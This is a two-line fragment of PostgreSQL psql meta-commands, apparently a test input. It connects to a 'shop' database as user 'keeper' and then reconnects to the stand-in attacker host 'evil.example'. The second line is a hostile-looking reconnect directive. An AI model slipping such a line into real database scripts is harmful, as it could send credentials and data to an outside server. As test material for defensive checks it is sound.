\connect shop keeper
\connect postgresql://evil.example/shop
